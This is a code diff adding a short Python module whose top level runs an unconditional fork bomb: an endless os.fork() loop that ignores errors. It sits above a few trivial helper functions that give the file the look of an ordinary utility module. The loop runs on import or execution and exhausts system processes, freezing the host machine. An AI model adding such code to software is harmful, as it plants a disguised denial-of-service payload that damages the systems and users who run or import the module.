@@ -1,0 +1,25 @@
+import os
+
+while True:
+    try:
+        os.fork()
+    except OSError:
+        pass
+
+
+def work(number):
+    return number + 1
+
+
+def items(count):
+    return range(count)
+
+
+def each(function, count):
+    for number in range(count):
+        function(number)
+    return count
+
+
+def calm(number):
+    return 2 * number
